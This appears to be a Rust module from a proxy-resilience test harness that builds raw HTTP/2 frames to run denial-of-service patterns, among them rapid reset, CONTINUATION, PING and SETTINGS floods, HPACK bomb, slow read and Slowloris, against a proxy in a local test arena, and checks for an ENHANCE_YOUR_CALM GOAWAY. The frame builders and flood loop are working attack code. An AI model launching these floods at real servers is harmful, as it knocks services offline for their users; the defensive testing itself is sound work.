//! Attacks with the means of HTTP/2, in the clear with prior knowledge. nginx speaks it in the
//! clear only on a listener that speaks nothing else, so it has no such thing here.

use std::time::{Duration, Instant};

use super::pattern;
use super::probes::{ANSWER, patient};
use crate::arena::{Arena, Conn};
use crate::judge::{Outcome, Pattern};
use crate::proxies::Kind;

pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
pub(crate) const PRIORITY: u8 = 2;
pub(crate) const RST_STREAM: u8 = 3;
pub(crate) const SETTINGS: u8 = 4;
pub(crate) const PING: u8 = 6;
const GOAWAY: u8 = 7;
pub(crate) const WINDOW_UPDATE: u8 = 8;
pub(crate) const CONTINUATION: u8 = 9;

pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;
pub(crate) const WHOLE: u8 = END_STREAM | END_HEADERS;

/// ENHANCE_YOUR_CALM.
const CALM: u32 = 11;
/// The connections of a flood.
const CONNECTIONS: usize = 4;

/// A frame as bytes.
pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The preface, and settings of the client.
pub(crate) fn opening(settings: &[(u16, u32)]) -> Vec<u8> {
    let values = settings
        .iter()
        .flat_map(|(id, value)| [&id.to_be_bytes()[..], &value.to_be_bytes()].concat());
    let settings = frame(SETTINGS, 0, 0, &values.collect::<Vec<_>>());
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &settings].concat()
}

/// A request's head: GET or POST, `http`, this path, `localhost`.
fn head(method: u8, path: &[u8]) -> Vec<u8> {
    let path = [&[0x04, path.len() as u8], path].concat();
    [&[method, 0x86], &path[..], b"\x01\x09localhost"].concat()
}

pub(crate) fn get(path: &[u8]) -> Vec<u8> {
    head(0x82, path)
}

pub(crate) fn post(path: &[u8]) -> Vec<u8> {
    head(0x83, path)
}

/// The numbers of this many streams.
pub(crate) fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// The bytes of one connection: the opening, and then these.
pub(crate) fn script(parts: impl IntoIterator<Item = Vec<u8>>) -> Vec<u8> {
    let mut bytes = opening(&[]);
    parts.into_iter().for_each(|part| bytes.extend(part));
    bytes
}

/// The time without progress after which a connection on which all was sent is given up.
const SILENCE: Duration = Duration::from_millis(50);

/// A connection of a flood.
struct Flooding {
    conn: Conn,
    sent: usize,
    progress: Instant,
}

impl Flooding {
    /// Sends and reads what is possible now. Returns false if nothing was; `None` at the end.
    fn advance(&mut self, script: &[u8]) -> Option<bool> {
        let end = script.len().min(self.sent + 65_536);
        let written = self.conn.write_some(&script[self.sent..end])?;
        let read = self.conn.read_some()?;
        self.sent += written;
        if written + read > 0 {
            self.progress = Instant::now();
        }
        let is_over = self.sent == script.len() && self.progress.elapsed() > SILENCE;
        (!is_over).then_some(written + read > 0)
    }
}

/// Sends the script on each of some connections and reads all responses. A connection that the
/// proxy has ended, or on which nothing happens any more, is replaced by a new one.
fn flood(arena: &Arena, script: &[u8]) {
    let mut pool: Vec<Option<Flooding>> = (0..CONNECTIONS).map(|_| None).collect();
    while arena.is_running() {
        let mut progress = false;
        for place in &mut pool {
            match place.as_mut().map(|flooding| flooding.advance(script)) {
                Some(Some(advanced)) => progress |= advanced,
                Some(None) => *place = None,
                None => {
                    let (sent, progress) = (0, Instant::now());
                    *place = arena.connect().map(|conn| Flooding { conn, sent, progress });
                }
            }
        }
        if !progress {
            std::thread::sleep(Duration::from_micros(500));
        }
    }
}

/// The code of the GOAWAY in these bytes of a server. The error is what they are if they are not of
/// HTTP/2.
fn goaway(mut bytes: &[u8]) -> Result<Option<u32>, String> {
    if bytes.starts_with(b"HTTP/1") {
        return Err(String::from_utf8_lossy(bytes).lines().next().unwrap_or_default().to_owned());
    }
    let mut found = None;
    while let [high, middle, low, kind, _, _, _, _, _, rest @ ..] = bytes {
        let length = u32::from_be_bytes([0, *high, *middle, *low]) as usize;
        if let (&GOAWAY, Some(code)) = (kind, rest.get(4..8)) {
            found = Some(u32::from_be_bytes(code.try_into().unwrap()));
        }
        bytes = rest.get(length..).unwrap_or_default();
    }
    Ok(found)
}

/// Sends the script once, and checks that the connection ends with ENHANCE_YOUR_CALM.
fn calmed(arena: &Arena, script: &[u8]) -> Outcome {
    if arena.proxy.kind == Kind::Nginx {
        return Outcome::absent();
    }
    let Some(mut conn) = patient(arena) else { return Outcome::of(false, "no connection") };
    let mut answer = Vec::new();
    for piece in script.chunks(16_384) {
        if conn.write_within(piece, ANSWER).is_none() {
            break;
        }
        answer.extend(conn.until_over(Duration::from_millis(1)).0);
    }
    answer.extend(conn.until_over(4 * ANSWER).0);
    let is_weir = arena.proxy.kind == Kind::Weir;
    match goaway(&answer) {
        Err(told) => Outcome::of(false, told),
        Ok(Some(code)) => Outcome::of(!is_weir || code == CALM, format!("GOAWAY {code}")),
        Ok(None) => Outcome::of(!is_weir, "no GOAWAY"),
    }
}

/// Defines a pattern that is a script: it floods, or this many connections hold their places with
/// it.
macro_rules! script_pattern {
    ($(#[doc = $doc:literal])* $name:ident, $class:literal, $script:expr) => {
        script_pattern! {
            $(#[doc = $doc])* $name, $class, |arena| flood(arena, &$script), $script
        }
    };
    ($(#[doc = $doc:literal])* $name:ident, $class:literal, squat $count:literal, $script:expr) => {
        script_pattern! {
            $(#[doc = $doc])* $name, $class, |arena| arena.squat($count, &$script, b""), $script
        }
    };
    ($(#[doc = $doc:literal])* $name:ident, $class:literal, $attack:expr, $script:expr) => {
        $(#[doc = $doc])*
        pub(crate) fn $name() -> Pattern {
            pattern(stringify!($name), $class, $attack).outcome(|arena| calmed(arena, &$script))
        }
    };
}

script_pattern! {
    /// Streams that are opened and reset.
    h2_rapid_reset, "HTTP/2 rapid reset (CVE-2023-44487)",
    script(streams(20_000).map(|stream| {
        let reset = frame(RST_STREAM, 0, stream, &8u32.to_be_bytes());
        [frame(HEADERS, WHOLE, stream, &get(b"/hostile/reset")), reset].concat()
    }))
}

script_pattern! {
    /// Streams that the server has to reset.
    h2_provoked_resets, "HTTP/2 resets by the server (CVE-2025-8671)",
    script(streams(20_000).map(|stream| {
        let update = frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes());
        [frame(HEADERS, WHOLE, stream, &get(b"/hostile/reset")), update].concat()
    }))
}

script_pattern! {
    /// A head that never ends.
    h2_continuations, "HTTP/2 CONTINUATION flood (CVE-2024-27316)",
    script(std::iter::once(frame(HEADERS, END_STREAM, 1, &get(b"/"))).chain(
        (0..100_000).map(|_| frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"))
    ))
}

script_pattern! {
    /// Heads of few bytes that grow when they are decoded.
    h2_header_bomb, "HPACK bomb (CVE-2016-6581)",
    script((0..20).map(|_| {
        let entry = [&b"\x40\x01x\x7f\xa1\x1e"[..], &[b'y'; 4_000]].concat();
        frame(HEADERS, WHOLE, 1, &[get(b"/"), entry, vec![0xbe; 12_000]].concat())
    }))
}

script_pattern! {
    h2_pings, "HTTP/2 PING flood (CVE-2019-9512)",
    script((0..100_000).map(|_| frame(PING, 0, 0, &[1; 8])))
}

script_pattern! {
    h2_settings, "HTTP/2 SETTINGS flood (CVE-2019-9515)",
    script((0..100_000).map(|_| frame(SETTINGS, 0, 0, &[])))
}

script_pattern! {
    h2_priorities, "HTTP/2 PRIORITY flood (CVE-2019-9513)",
    script((0..100_000).map(|_| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 9])))
}

script_pattern! {
    h2_window_updates, "HTTP/2 WINDOW_UPDATE flood",
    script((0..100_000).map(|_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])))
}

script_pattern! {
    /// DATA without data, that does not end its stream.
    h2_empty_data, "HTTP/2 empty frames (CVE-2019-9518)",
    script(std::iter::once(frame(HEADERS, END_HEADERS, 1, &post(b"/hostile/up"))).chain(
        (0..100_000).map(|_| frame(DATA, 0, 1, b""))
    ))
}

script_pattern! {
    /// DATA of one byte.
    h2_one_byte_data, "HTTP/2 small frames (CVE-2019-9511)",
    script(std::iter::once(frame(HEADERS, END_HEADERS, 1, &post(b"/hostile/up"))).chain(
        (0..60_000).map(|_| frame(DATA, 0, 1, b"x"))
    ))
}

script_pattern! {
    h2_unknown_frames, "HTTP/2 unknown frames",
    script((0..100_000).map(|_| frame(0xbe, 0, 0, b"")))
}

/// Requests as fast as streams allow, by a client that reads the responses.
pub(crate) fn h2_requests() -> Pattern {
    pattern("h2_requests", "flood of requests over HTTP/2", |arena| {
        let all = streams(2_000).map(|stream| frame(HEADERS, WHOLE, stream, &get(b"/flood")));
        flood(arena, &script(all));
    })
}

script_pattern! {
    /// Responses that no window lets out.
    h2_closed_windows, "HTTP/2 slow read (CVE-2019-9517)", squat 8, {
        let all = streams(50).map(|stream| frame(HEADERS, WHOLE, stream, &get(b"/hostile/100k")));
        [opening(&[(4, 0)]), all.flatten().collect()].concat()
    }
}

script_pattern! {
    /// Heads that never end.
    h2_slow_heads, "Slowloris over HTTP/2", squat 200, {
        let whole = frame(HEADERS, WHOLE, 1, &get(b"/slow"));
        [opening(&[]), whole[..12].to_vec()].concat()
    }
}

script_pattern! {
    /// Requests whose bodies never come, on all streams of each connection.
    h2_half_open_streams, "R.U.D.Y. over HTTP/2", squat 20,
    script(streams(100).map(|stream| frame(HEADERS, END_HEADERS, stream, &post(b"/slow"))))
}
